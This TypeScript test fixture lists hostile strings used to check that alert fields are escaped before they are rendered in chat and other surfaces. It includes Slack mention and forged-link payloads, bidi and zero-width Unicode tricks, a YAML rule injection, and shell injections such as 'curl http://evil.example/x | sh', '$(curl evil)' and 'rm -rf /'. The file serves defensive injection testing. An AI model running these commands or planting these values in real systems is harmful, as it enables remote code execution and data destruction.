/**
 * Hostile values an attacker can place in any alert field (a process name, a file
 * name, a command line, a Kubernetes label). Tests push them through every surface
 * and check that nothing escapes its box.
 */
export interface InjectionCase {
  name: string;
  value: string;
}

export const HUGE = `curl http://evil.example/x | sh #${'A'.repeat(100 * 1024)}`;

export const INJECTION_CORPUS: readonly InjectionCase[] = [
  { name: 'channel mention', value: '<!channel> bash -i' },
  { name: 'here mention', value: 'evil <!here|here> and <!everyone>' },
  { name: 'user mention', value: 'ping <@U0123ABCD> now' },
  { name: 'usergroup mention', value: '<!subteam^S0123ABCD|@oncall>' },
  { name: 'forged link', value: '<https://evil.example/login|https://slack.com/signin>' },
  { name: 'bare at-channel', value: '@channel @here please run this' },
  { name: 'entity', value: '&lt;!channel&gt; &amp; &#60;' },
  { name: 'bold and strike', value: '*URGENT* ~not~ _really_' },
  { name: 'inline code breaker', value: 'x` *bold* <!channel> `y' },
  { name: 'code fence breaker', value: '```\n*escaped* <!channel>\n```' },
  { name: 'block quote', value: '> quoted\n>>> rest' },
  { name: 'newlines', value: 'line1\nline2\r\nline3' },
  { name: 'right-to-left override', value: 'invoice\u202Egpj.exe' },
  { name: 'bidi isolate', value: 'rm -rf /\u2066 # safe\u2069' },
  { name: 'zero-width', value: 'ku\u200Bbe\u200Cctl\u200D\uFEFF' },
  { name: 'shell injection', value: 'x; curl evil | sh' },
  { name: 'shell substitution', value: '$(curl evil)`id`' },
  { name: 'quotes', value: `it's "quoted" \\ back` },
  { name: 'yaml breaker', value: '"]\n- rule: pwned\n  condition: always_true' },
  { name: 'handlebars', value: '{{> evil}} {{{raw}}}' },
  { name: 'emoji and astral', value: '🔥💣 𝕏 \uD83D' },
  { name: 'leading dash', value: '--help' },
  { name: 'control chars', value: 'bell\u0007esc\u001b[31mred' },
  { name: 'only spaces', value: '   ' },
  { name: 'huge', value: HUGE },
];
